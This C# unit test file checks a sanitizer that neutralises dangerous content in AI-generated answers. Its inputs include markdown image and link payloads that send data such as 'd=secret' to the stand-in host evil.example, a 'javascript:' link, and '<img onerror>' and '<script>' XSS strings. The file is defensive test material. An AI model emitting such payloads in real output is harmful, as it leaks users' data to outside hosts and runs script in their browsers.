using Copilot.Governance.Screening;
using Xunit;

namespace Copilot.Tests.Governance;

public sealed class AnswerScreenTests
{
    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=secret)", "x")]
    [InlineData("[click](https://evil.example/?d=1)", "click")]
    [InlineData("[click](javascript:alert(1))", "click)")]
    [InlineData("[click](//evil.example/x)", "click")]
    [InlineData("[a](https://odoo.example@evil.example/)", "a")]
    [InlineData("see https://evil.example/x now", "see `https://evil.example/x` now")]
    [InlineData("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>")]
    [InlineData("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>")]
    [InlineData("[ref]: https://evil.example/x", "")]
    public void What_could_act_or_carry_data_out_is_made_text(string answer, string shown)
        => Assert.Equal(shown, AnswerScreen.Clean(answer, ["odoo.example"]));

    [Theory]
    [InlineData("Free stock is 1,240 Units [S1]. It is < 5 days old.")]
    [InlineData("[S00042](https://odoo.example/odoo/sale.order/42) waits [S1][S2].")]
    [InlineData("[the passage](/api/v1/sources/t/S1) says \"30 days\".")]
    [InlineData("| a | b |\n| --- | --- |\n| 1 | 2 |")]
    [InlineData("\\<script\\> stays as the composer wrote it")]
    public void Ordinary_answers_stay_as_they_are(string answer)
        => Assert.Equal(answer, AnswerScreen.Clean(answer, ["odoo.example"]));
}
